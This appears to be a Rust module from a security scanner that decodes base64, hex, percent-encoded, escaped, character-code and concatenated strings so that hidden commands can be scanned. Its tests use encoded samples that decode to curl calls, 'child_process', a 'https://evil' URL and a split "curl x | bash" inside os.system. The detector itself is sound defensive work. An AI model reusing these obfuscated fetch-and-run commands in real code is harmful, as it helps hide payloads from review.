//! Encoded texts: base64, hexadecimal digits, percent-encoding, escapes, character codes, and concatenated string
//! parts.
//!
//! Each is decoded and scanned as a text of its own, recursively up to three deep. A finding points to the outermost
//! encoding. Only readable results count: most long words are names, digests and data. Nothing is allocated for
//! those, and the decoded text of each kind and depth is no longer than the text itself.

use std::ops::Range;

use stockade_text::hex_byte;

use crate::prefilter::byte_set::ByteSet;

/// Maximum depth of nested encodings.
pub(crate) const MAX_DEPTH: usize = 3;
/// Minimum size of a decoded text that is scanned.
const SHORTEST: usize = 12;
/// Number of text bytes that outweigh one invalid byte.
const BYTES_FOR_ONE_ODD: usize = 16;
/// Minimum length of an encoded run.
const SHORTEST_RUN: usize = 20;

/// A decoded text, and the span of its encoding.
#[derive(Debug, PartialEq, Eq, Hash)]
pub(crate) struct Decoded {
    pub(crate) span: Range<usize>,
    pub(crate) text: String,
}

/// Passes every readable text encoded in `text` to `found`.
pub(crate) fn each_decoded(text: &str, mut found: impl FnMut(Decoded)) {
    let bytes = text.as_bytes();
    each_long_run(bytes, &mut found);
    each_row_of_escapes(bytes, &mut found);
    each_list_of_numbers(bytes, &mut found);
    each_text_in_parts(text, &mut found);
}

/// Long words of base64 or hexadecimal digits. Most bytes are skipped: a run that is too short ends before the byte
/// that a long one would reach.
fn each_long_run(bytes: &[u8], found: &mut impl FnMut(Decoded)) {
    let mut from = 0;
    while let Some(window) = bytes.get(from..from + SHORTEST_RUN) {
        // Which byte ends a word is hard to predict, so the last few are asked together. Nearly always one of them does.
        let gaps = window.last_chunk().map_or(0, gaps);
        if gaps != 0 {
            from += SHORTEST_RUN - gaps.trailing_zeros() as usize;
            continue;
        }
        if let Some(gap) = window.iter().rposition(|byte| !is_base64(*byte)) {
            from += gap + 1;
            continue;
        }
        let end = run(bytes, from, is_base64);
        let begin = from + window.iter().take_while(|byte| matches!(byte, b'-' | b'_' | b'=')).count();
        let word = bytes.get(begin..end).unwrap_or_default();
        // A separate word, or the value of an assignment.
        for part in word.split(|byte| *byte == b'=').filter(|part| part.len() >= SHORTEST_RUN - 2) {
            let decoded = decode_hex(part).or_else(|| decode_base64(part));
            if let Some(text) = decoded.and_then(readable) {
                found(Decoded { span: begin..end, text });
            }
        }
        from = end;
    }
}

/// Consecutive escapes.
fn each_row_of_escapes(bytes: &[u8], found: &mut impl FnMut(Decoded)) {
    let mut from = 0;
    while let Some(next) = memchr::memchr2(b'\\', b'%', bytes.get(from..).unwrap_or_default()) {
        let at = from + next;
        let end = at + escapes(bytes, at);
        if end - at >= SHORTEST_RUN
            && let Some(text) = decode_escapes(bytes.get(at..end).unwrap_or_default()).and_then(readable)
        {
            found(Decoded { span: at..end, text });
        }
        from = end.max(at + 1);
    }
}

/// Returns which of eight bytes are no part of a run, one bit each, the last byte first.
fn gaps(bytes: &[u8; 8]) -> u32 {
    bytes.iter().fold(0, |gaps, byte| gaps << 1 | u32::from(!is_base64(*byte)))
}

const fn is_base64(byte: u8) -> bool {
    const DIGITS: ByteSet = ByteSet::range(b'0', b'9')
        .or(ByteSet::range(b'A', b'Z'))
        .or(ByteSet::range(b'a', b'z'))
        .or(ByteSet::range(b'+', b'+'))
        .or(ByteSet::range(b'/', b'/'))
        .or(ByteSet::range(b'-', b'-'))
        .or(ByteSet::range(b'_', b'_'))
        .or(ByteSet::range(b'=', b'='));
    DIGITS.contains(byte)
}

fn run(bytes: &[u8], at: usize, is_part: impl Fn(u8) -> bool) -> usize {
    let rest = bytes.get(at..).unwrap_or_default();
    at + rest.iter().position(|byte| !is_part(*byte)).unwrap_or(rest.len())
}

fn decode_hex(run: &[u8]) -> Option<Vec<u8>> {
    let digits = run.strip_prefix(b"0x").unwrap_or(run);
    let is_all = digits.len().is_multiple_of(2) && digits.iter().all(u8::is_ascii_hexdigit);
    let pair = |pair: &[u8]| match pair {
        [high, low] => hex_byte(*high, *low),
        _ => None,
    };
    let is_readable =
        is_all && digits.chunks(2).take(8).filter_map(pair).filter(|byte| !may_be_of_text(*byte)).count() < 2;
    is_readable.then(|| digits.chunks(2).filter_map(pair).collect())
}

/// Returns the value of a base64 digit, in either alphabet.
const fn value(byte: u8) -> Option<u8> {
    match byte {
        b'A'..=b'Z' => Some(byte - b'A'),
        b'a'..=b'z' => Some(byte - b'a' + 26),
        b'0'..=b'9' => Some(byte - b'0' + 52),
        b'+' | b'-' => Some(62),
        b'/' | b'_' => Some(63),
        _ => None,
    }
}

fn group(four: &[u8]) -> [u8; 3] {
    let bits = (0..4)
        .fold(0_u32, |bits, at| bits << 6 | u32::from(four.get(at).copied().and_then(value).unwrap_or(0)));
    let [_, first, second, third] = bits.to_be_bytes();
    [first, second, third]
}

fn decode_base64(digits: &[u8]) -> Option<Vec<u8>> {
    // A word without both cases is not base64.
    let has_both = digits.iter().any(u8::is_ascii_uppercase) && digits.iter().any(u8::is_ascii_lowercase);
    let begins_readable =
        digits.chunks(4).take(3).flat_map(group).filter(|byte| !may_be_of_text(*byte) && *byte != 0).count()
            < 2;
    if !has_both || !begins_readable || digits.len() % 4 == 1 {
        return None;
    }
    let mut bytes: Vec<u8> = digits.chunks(4).flat_map(group).collect();
    bytes.truncate(digits.len() * 3 / 4);
    // PowerShell encodes commands as UTF-16.
    let is_wide = bytes.chunks(2).take(8).all(|pair| matches!(pair, [low, 0] if *low != 0));
    if is_wide {
        bytes.retain(|byte| *byte != 0);
    }
    Some(bytes)
}

/// Returns the length of consecutive escapes, including plain characters between them.
fn escapes(bytes: &[u8], start: usize) -> usize {
    let (mut at, mut plain) = (start, 0);
    let mut end = start;
    while plain < 2 {
        match escape(bytes.get(at..).unwrap_or_default()) {
            Some((_, length)) => {
                at += length;
                (plain, end) = (0, at);
            }
            None => {
                at += 1;
                plain += 1;
            }
        }
    }
    end - start
}

/// Returns the byte of an escape, and the escape's length.
fn escape(rest: &[u8]) -> Option<(u8, usize)> {
    let two = |high: u8, low: u8, length| Some((hex_byte(high, low)?, length));
    match rest {
        [b'\\', b'x', high, low, ..] => two(*high, *low, 4),
        [b'\\', b'u', b'0', b'0', high, low, ..] => two(*high, *low, 6),
        [b'%', high, low, ..] => two(*high, *low, 3),
        _ => None,
    }
}

fn decode_escapes(mut run: &[u8]) -> Option<Vec<u8>> {
    let mut bytes = Vec::new();
    while let Some((&first, rest)) = run.split_first() {
        let (byte, length) = escape(run).unwrap_or((first, run.len() - rest.len()));
        bytes.push(byte);
        run = run.get(length..).unwrap_or_default();
    }
    Some(bytes)
}

/// Comma-separated character codes.
fn each_list_of_numbers(bytes: &[u8], found: &mut impl FnMut(Decoded)) {
    let mut at = 0;
    while let Some(start) = memchr::memchr(b',', bytes.get(at..).unwrap_or_default()).map(|comma| at + comma)
    {
        let is_part = |byte: u8| byte.is_ascii_digit() || matches!(byte, b',' | b' ' | b'\n' | b'\r' | b'\t');
        let near = bytes.get(start.saturating_sub(3)..start).unwrap_or_default();
        let digits = near.iter().rev().take_while(|byte| byte.is_ascii_digit()).count();
        if digits < 2 {
            at = start + 1;
            continue;
        }
        let end = run(bytes, start, is_part);
        at = end.max(start + 1);
        let begin = start - digits;
        if end - begin < SHORTEST_RUN {
            continue;
        }
        let list = bytes.get(begin..end).unwrap_or_default();
        let numbers = list.split(|byte| *byte == b',').map(|number| {
            let number = std::str::from_utf8(number).unwrap_or_default().trim();
            number.parse::<u8>().ok().filter(|byte| is_of_text(*byte))
        });
        // A trailing comma is permitted.
        let texts: Option<Vec<u8>> = numbers.take_while(Option::is_some).collect();
        if let Some(text) = texts.filter(|text| text.len() * 6 >= list.len()).and_then(readable) {
            found(Decoded { span: begin..end, text });
        }
    }
}

/// Quoted strings joined by an operator: each line with such strings, without the joints.
fn each_text_in_parts(text: &str, found: &mut impl FnMut(Decoded)) {
    let bytes = text.as_bytes();
    let mut from = 0;
    while let Some(next) = memchr::memchr(b'+', bytes.get(from..).unwrap_or_default()) {
        let at = from + next;
        let before = bytes.get(from..at).unwrap_or_default();
        let start = memchr::memrchr(b'\n', before).map_or(from, |end| from + end + 1);
        let rest = bytes.get(at..).unwrap_or_default();
        let end = memchr::memchr(b'\n', rest).map_or(bytes.len(), |end| at + end + 1);
        let line = text.get(start..end).unwrap_or_default();
        from = end;
        let may_join = line.matches('+').nth(1).is_some() && line.contains(['"', '\'']);
        if !may_join || line.len() > 4096 {
            continue;
        }
        let joined = without_joints(line);
        if let Some(text) = joined.map(String::into_bytes).and_then(readable) {
            found(Decoded { span: start..end, text });
        }
    }
}

fn without_joints(line: &str) -> Option<String> {
    let (mut joined, mut rest, mut joints) = (String::new(), line, 0);
    while let Some(at) = rest.find('+') {
        let (before, after) = rest.split_at(at);
        let after = after.get(1..).unwrap_or_default();
        let (left, right) = (before.trim_end(), after.trim_start());
        let quote = left.chars().next_back().filter(|quote| matches!(quote, '"' | '\''));
        match quote.and_then(|quote| Some((left.strip_suffix(quote)?, right.strip_prefix(['"', '\''])?))) {
            Some((left, right)) => {
                joined.push_str(left);
                joints += 1;
                rest = right;
            }
            None => {
                joined.push_str(before);
                joined.push('+');
                rest = after;
            }
        }
    }
    joined.push_str(rest);
    (joints >= 2).then_some(joined)
}

const fn is_of_text(byte: u8) -> bool {
    matches!(byte, b' '..=b'~' | b'\n' | b'\r' | b'\t')
}

/// Whether a byte may occur in text, assuming that multi-byte characters are complete.
const fn may_be_of_text(byte: u8) -> bool {
    is_of_text(byte) || byte >= 0x80
}

/// Converts bytes to a readable text. A few invalid bytes are dropped: programs ignore them and run the rest.
fn readable(bytes: Vec<u8>) -> Option<String> {
    let invalid: usize = bytes.utf8_chunks().map(|chunk| chunk.invalid().len()).sum();
    let odd = invalid + bytes.iter().filter(|byte| byte.is_ascii_control() && !is_of_text(**byte)).count();
    if bytes.len() < SHORTEST || odd * BYTES_FOR_ONE_ODD > bytes.len() {
        return None;
    }
    let text = match String::from_utf8(bytes) {
        Ok(text) => text,
        Err(error) => error.as_bytes().utf8_chunks().map(|chunk| chunk.valid()).collect(),
    };
    Some(if odd == 0 {
        text
    } else {
        text.replace(|letter: char| letter.is_ascii_control() && !matches!(letter, '\n' | '\r' | '\t'), "")
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn decoded(text: &str) -> Vec<String> {
        let mut list = Vec::new();
        each_decoded(text, |decoded| list.push(decoded.text));
        list
    }

    #[test]
    fn what_is_spelled_is_read() {
        let rows = [
            ("x = 'Y3VybCBodHRwczovL2EuZXhhbXBsZQ=='", "curl https://a.example"),
            ("6375726c2068747470733a2f2f61", "curl https://a"),
            (r"'\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73'", "child_process"),
            ("%63%75%72%6c%20%68%74%74%70%3a%2f%2f%61", "curl http://a"),
            ("[104,116,116,112,115,58,47,47,101,118,105,108]", "https://evil"),
            ("YwB1AHIAbAAgAGgAdAB0AHAAcwA6AC8ALwBhAA==", "curl https://a"),
            ("P=Y3VybCBodHRwczovL2UuZXhhbXBsZS94", "curl https://e.example/x"),
            ("export P=Y3VybCBodHRwczovL2UuZXhhbXBsZS94", "curl https://e.example/x"),
            ("'w6QgY3VybCBodHRwczovL2UuZXhhbXBsZS94'", "ä curl https://e.example/x"),
            ("'/2N1cmwgaHR0cHM6Ly9lLmV4YW1wbGUveA=='", "curl https://e.example/x"),
            ("'G2N1cmwgaHR0cHM6Ly9lLmV4YW1wbGUveA=='", "curl https://e.example/x"),
            ("c3a46375726c2068747470733a2f2f61", "äcurl https://a"),
        ];
        for (text, expected) in rows {
            assert!(decoded(text).iter().any(|it| it == expected), "{text}: {:?}", decoded(text));
        }
        assert_eq!(decoded("os.system('cu' + 'rl x | ba' + 'sh')"), ["os.system('curl x | bash')"]);
    }

    #[test]
    fn names_digests_and_data_are_nothing() {
        for text in [
            "a_very_long_name_of_a_function_that_does_much",
            "/usr/share/doc/package/examples/readme",
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "sha512-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789AbCdEfGhIjKl",
            "10, 20, 30, 40, 50, 60, 70, 80, 90, 100",
            "100% of 20% and 30%",
        ] {
            assert_eq!(decoded(text), Vec::<String>::new(), "{text}");
        }
    }
}
